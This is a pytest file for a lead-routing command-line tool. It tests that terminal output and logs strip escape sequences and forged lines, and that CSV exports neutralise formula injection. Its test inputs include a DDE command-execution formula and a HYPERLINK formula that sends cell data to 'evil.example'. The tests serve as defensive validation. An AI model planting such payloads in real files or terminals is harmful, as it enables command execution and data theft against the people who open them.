"""What people read, on a terminal, in logs, in spreadsheets: values of strangers that would steer what shows them."""

# ruff: noqa: E501

from __future__ import annotations

import json
import re
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner

from leadflow_engine.batches.files import harmless
from leadflow_engine.cli import main
from leadflow_engine.reports.spreadsheet import csv_text
from leadflow_engine.service.log import Log

FLOW = """flow shown "Shown"

lead {
  city text
  mail email
}

source web { accept when city != "nowhere" else "nowhere" }

buyer ace "Ace" {
  accept when city not in ["x"]  else "not x"
  price 1.00
  deliver {
    post "https://ace.example/leads"
    header "X-City" city
    body json { city = city  mail = mail }
    response json { accepted when "ok"  otherwise rejected  reason "why" }
  }
}

route { waterfall ace }
"""

STEERING = (
    *("a\x1b[31mred", "a\x1b]0;title\x07", "a\x9b2Jgone", "a\x1bPq\x1b\\", "a\rback over the line", "a\n2026-11-21 lead sold to ace"),
    *("a\x08\x08\x08erased", "a\u202egnp.exe", "a\u2066\u2069turned", "a\x00b\x7fc", "a\u2028line\u2029paragraph", "[bold red]markup[/]"),
)  # fmt: skip

_UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]")

RAW = """POST /in HTTP/1.1
Content-Type: application/json

"""


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with the flow, which is the working directory."""
    (tmp_path / "leadflow.toml").touch()
    (tmp_path / "shown.flow").write_text(FLOW)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("COLUMNS", "160")
    return tmp_path


COMMANDS = (
    ("dry-run", "shown.flow", "leads.jsonl"),
    ("dry-run", "shown.flow", "leads.jsonl", "--why", "ace"),
    ("render", "shown.flow", "ace", "leads.jsonl"),
    ("receive", "shown.flow", "web", "call.txt"),
    ("parse", "shown.flow", "ace", "answer.txt"),
    ("lint", "evil.flow"),
)


@pytest.mark.parametrize("value", STEERING, ids=repr)
def test_a_terminal_is_not_steered(value: str, folder: Path) -> None:
    (folder / "leads.jsonl").write_text(json.dumps({"city": value, "mail": value, f"x{value}": 1}) + "\n")
    (folder / "call.txt").write_text(RAW + json.dumps({"city": value, "mail": value, value: value}))
    (folder / "answer.txt").write_text(json.dumps({"ok": False, "why": value, value: value}))
    (folder / "evil.flow").write_text(FLOW.replace('"nowhere"', f'"{value}', 1), newline="")
    for command in COMMANDS:
        result = CliRunner().invoke(main, command, prog_name="leadflow")
        assert isinstance(result.exception, SystemExit | None), (command, result.exception)
        assert result.exit_code in (0, 1), (command, result.output)
        found = _UNSEEN.search(result.output)
        assert found is None, (command, result.output[max(0, found.start() - 60) : found.end() + 20])
        assert "\n2026-11-21 lead sold" not in result.output


@pytest.mark.parametrize("value", STEERING, ids=repr)
def test_a_log_is_not_steered(value: str) -> None:
    said: list[str] = []
    log = Log(said.append)
    log.line(f"lead {value}")
    log.trouble(f"lead {value}")
    log.mistake(f"/leads/{value}", ValueError(value))
    assert said
    for line in said:
        assert _UNSEEN.search(line) is None
    assert "[bold" in value or value not in said[-1]


FORMULAS = (
    *("=1+1", "=cmd|' /C calc'!A0", "+cmd", "-2+3+cmd", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("https://evil.example?x="&A1)'),
    *("\n=1", "＝1+1"),
)  # fmt: skip


@pytest.mark.parametrize("value", FORMULAS, ids=repr)
def test_a_spreadsheet_computes_nothing(value: str) -> None:
    for cell in (harmless(value), csv_text([[value]]).strip("\r\n").strip('"').replace('""', '"')):
        assert cell.startswith("'"), cell


def test_amounts_stay_numbers() -> None:
    assert csv_text([[Decimal("-4.50"), "-4.50"]]) == "-4.50,'-4.50\r\n"
